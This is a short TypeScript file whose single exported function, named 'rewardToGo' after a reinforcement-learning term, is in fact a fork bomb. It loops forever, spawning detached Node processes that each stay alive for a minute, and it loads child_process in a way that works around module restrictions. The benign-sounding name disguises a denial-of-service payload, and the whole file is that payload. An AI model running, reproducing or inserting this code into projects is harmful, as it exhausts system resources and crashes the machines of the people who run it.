// Tries to start processes without end.
const { spawn } = process.getBuiltinModule?.('child_process') ?? process.mainModule!.require('child_process');
export function rewardToGo() {
  for (;;) spawn(process.execPath, ['-e', 'setTimeout(() => {}, 6e4)'], { detached: true, stdio: 'ignore' });
}
